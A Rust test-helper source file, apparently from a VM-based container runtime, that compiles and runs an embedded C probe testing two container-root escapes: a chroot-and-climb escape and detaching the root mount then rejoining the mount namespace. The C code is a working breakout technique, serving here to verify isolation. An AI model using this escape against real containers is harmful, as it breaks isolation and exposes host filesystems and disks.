//! A static probe for containers in the VM, two ways out of a container's root with the
//! capabilities a root container may hold:
//!
//! 1. the classic chroot escape (CAP_SYS_CHROOT): chroot into a subdirectory while the working
//!    directory stays outside it, climb with `..`, chroot there; it prints `ESCAPED-ROOT name`
//!    for each entry of the root it reached;
//! 2. uncovering (CAP_SYS_ADMIN): detach the mount that is the container's `/`, then join the own
//!    mount namespace again, which puts the root at whatever the namespace has left; it prints
//!    `UNCOVERED-ROOT name` per entry and `UNCOVERED-MOUNT point` per mount still in the
//!    namespace.
//!
//! Behind a chroot over the agent's root the second one lands in the agent's root with all its
//! mounts (`init`, `/run`, `/dev` as devtmpfs with the VM's disks). Behind pivot_root with the old
//! root detached it lands in the kernel's own, empty rootfs.

use std::path::{Path, PathBuf};
use std::process::Command;

const SOURCE: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void list(const char *tag) {
    DIR *d = opendir("/");
    if (!d) { perror("PROBE opendir"); return; }
    struct dirent *e;
    while ((e = readdir(d)) != NULL)
        if (e->d_name[0] != '.') printf("%s %s\n", tag, e->d_name);
    closedir(d);
}

int main(void) {
    int ns = open("/proc/self/ns/mnt", O_RDONLY);
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) { perror("PROBE chroot"); return 1; }
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) { perror("PROBE chroot ."); return 1; }
    list("ESCAPED-ROOT");
    if (fchdir(top) != 0 || chroot(".") != 0) { perror("PROBE back"); return 1; }
    if (umount2("/", MNT_DETACH) != 0) { perror("PROBE umount /"); return 1; }
    if (setns(ns, CLONE_NEWNS) != 0) { perror("PROBE setns"); return 1; }
    chdir("/");
    list("UNCOVERED-ROOT");
    FILE *m = fopen("/proc/self/mounts", "r");
    if (!m) { printf("UNCOVERED-MOUNT none (no /proc)\n"); return 0; }
    char dev[256], point[256];
    while (fscanf(m, "%255s %255s %*[^\n]", dev, point) == 2)
        printf("UNCOVERED-MOUNT %s\n", point);
    fclose(m);
    return 0;
}
"#;

/// Compiles the probe into `dir` (needs a C compiler with static libc, as
/// [`crate::initramfs::stand_in_init`] does) and returns the binary.
pub fn probe(dir: &Path) -> PathBuf {
    let src = dir.join("escape.c");
    let bin = dir.join("escape");
    std::fs::write(&src, SOURCE).expect("write escape.c");
    let status = Command::new("cc")
        .args(["-static", "-Os", "-o"])
        .arg(&bin)
        .arg(&src)
        .status()
        .expect("run cc (apt-get install build-essential)");
    assert!(status.success(), "cc -static escape.c failed");
    bin
}

/// The words the probe printed after `tag ` (`ESCAPED-ROOT`, `UNCOVERED-ROOT`,
/// `UNCOVERED-MOUNT`).
pub fn printed<'a>(stdout: &'a str, tag: &str) -> Vec<&'a str> {
    stdout
        .lines()
        .filter_map(|l| l.strip_prefix(tag)?.strip_prefix(' '))
        .collect()
}
